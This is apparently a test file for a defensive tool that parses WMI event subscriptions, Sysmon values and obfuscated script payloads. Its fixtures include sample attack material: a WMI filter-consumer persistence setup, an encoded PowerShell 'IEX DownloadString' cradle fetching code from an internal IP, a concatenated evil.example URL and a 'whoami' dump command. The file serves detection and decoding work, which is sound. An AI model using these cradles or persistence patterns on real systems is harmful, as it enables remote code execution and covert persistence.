import assert from 'node:assert/strict';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, test } from 'node:test';
import { decodePayload } from '../../../main/subscriptions/decode';
import { mofText, parseMofInstances } from '../../../main/subscriptions/mof';
import { parseObjectRef, sysmonValue } from '../../../main/subscriptions/values';
import { POSSIBLE_CAUSE_5861 } from './fixtures';

describe('MOF instances', () => {
  test('5861 PossibleCause: filter and consumer with escapes and arrays', () => {
    const [f, c] = parseMofInstances(POSSIBLE_CAUSE_5861);
    assert.equal(f.className, '__EventFilter');
    assert.equal(f.props.Name, 'Updater');
    assert.equal(f.props.EventNamespace, 'root\\cimv2');
    assert.match(String(f.props.Query), /SystemUpTime >= 200$/);
    assert.equal(f.props.QueryLanguage, 'WQL');
    assert.equal((f.props.CreatorSID as number[]).length, 28);
    assert.equal(c.className, 'ActiveScriptEventConsumer');
    assert.equal(c.props.ScriptingEngine, 'VBScript');
    assert.equal(mofText(c.props.ScriptText), 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", 0');
  });
  test('.mof file: pragmas, qualifiers, aliases, concatenated strings, nested instance refs', () => {
    const mof = `#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")
// comment
[Locale(1033)]
instance of __EventFilter as $F
{
  Name = "F1"; /* inline */
  Query = "SELECT * FROM __InstanceCreationEvent WITHIN 5 "
          "WHERE TargetInstance ISA 'Win32_Process'";
};
instance of CommandLineEventConsumer as $C { Name = "C1"; CommandLineTemplate = "cmd.exe /c calc"; RunInteractively = FALSE; KillTimeout = 0; };
instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };`;
    const xs = parseMofInstances(mof);
    assert.deepEqual(xs.map((x) => x.className), ['__EventFilter', 'CommandLineEventConsumer', '__FilterToConsumerBinding']);
    assert.equal(xs[0].alias, '$F');
    assert.equal(xs[0].props.Query, "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'");
    assert.equal(xs[1].props.RunInteractively, false);
    assert.equal(xs[2].props.Filter, '$F');
  });
  test('damaged text yields what can be read', () => {
    const xs = parseMofInstances('junk instance of __EventFilter { Name = "half"; Query = "SELECT');
    assert.equal(xs.length, 1);
    assert.equal(xs[0].props.Name, 'half');
  });
});

describe('Sysmon value quoting', () => {
  test('leading space, quotes and doubled backslashes', () => {
    assert.equal(sysmonValue(' "root\\\\cimv2"'), 'root\\cimv2');
    assert.equal(sysmonValue(' "CommandLineEventConsumer.Name=\\"BotConsumer23\\""'), 'CommandLineEventConsumer.Name="BotConsumer23"');
    assert.equal(sysmonValue('plain'), 'plain');
  });
  test('object references with and without namespace paths', () => {
    assert.deepEqual(parseObjectRef('\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name="Atomic"'), {
      host: '.',
      namespace: 'ROOT\\subscription',
      className: 'CommandLineEventConsumer',
      name: 'Atomic',
    });
    assert.deepEqual(parseObjectRef('__EventFilter.Name="BotFilter82"'), { host: null, namespace: null, className: '__EventFilter', name: 'BotFilter82' });
    assert.deepEqual(parseObjectRef('NTEventLogEventConsumer="SCM Event Log Consumer"'), { host: null, namespace: null, className: 'NTEventLogEventConsumer', name: 'SCM Event Log Consumer' });
  });
});

describe('payload decoding', () => {
  test('PowerShell -enc (UTF-16LE), nested FromBase64String + gzip stage', () => {
    const inner = 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/a")';
    const gz = gzipSync(Buffer.from(inner, 'utf8')).toString('base64');
    const stage1 = `$s=[IO.MemoryStream][Convert]::FromBase64String('${gz}');IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;
    const cmd = `powershell.exe -NoP -W Hidden -enc ${Buffer.from(stage1, 'utf16le').toString('base64')}`;
    const d = decodePayload(cmd);
    assert.equal(d[0].method, 'powershell-encodedcommand(utf16le)');
    assert.equal(d[0].text, stage1);
    assert.equal(d[1].method, 'frombase64string(gzip+utf8)');
    assert.equal(d[1].text, inner);
  });
  test('raw deflate stage (DeflateStream)', () => {
    const inner = 'Start-Process calc.exe; Write-Output done';
    const z = deflateRawSync(Buffer.from(inner)).toString('base64');
    const d = decodePayload(`[IO.Compression.DeflateStream]([IO.MemoryStream][Convert]::FromBase64String("${z}"))`);
    assert.equal(d.length, 1);
    assert.equal(d[0].text, inner);
    assert.match(d[0].method, /deflate/);
  });
  test('base64 in VBScript/JScript literals, char codes, concatenation', () => {
    const b = Buffer.from('cmd.exe /c whoami > C:\\Users\\Public\\o.txt').toString('base64');
    assert.equal(decodePayload(`x = DecodeB64("${b}")`)[0].text, 'cmd.exe /c whoami > C:\\Users\\Public\\o.txt');
    assert.equal(decodePayload('eval(String.fromCharCode(99,97,108,99))')[0].text, 'calc');
    assert.equal(decodePayload('[char[]](104,105,0x21) -join ""')[0].text, 'hi!');
    assert.equal(decodePayload('s = Chr(87) & Chr(83) & Chr(99)')[0].text, 'WSc');
    const cc = decodePayload(`$u = 'htt' + 'p://ev' + 'il.example/p'`);
    assert.equal(cc[0].method, 'concatenation');
    assert.equal(cc[0].text, 'http://evil.example/p');
  });
  test('plain text decodes to nothing', () => {
    assert.deepEqual(decodePayload('C:\\Windows\\System32\\notepad.exe'), []);
    assert.deepEqual(decodePayload('cscript KernCap.vbs'), []);
  });
});
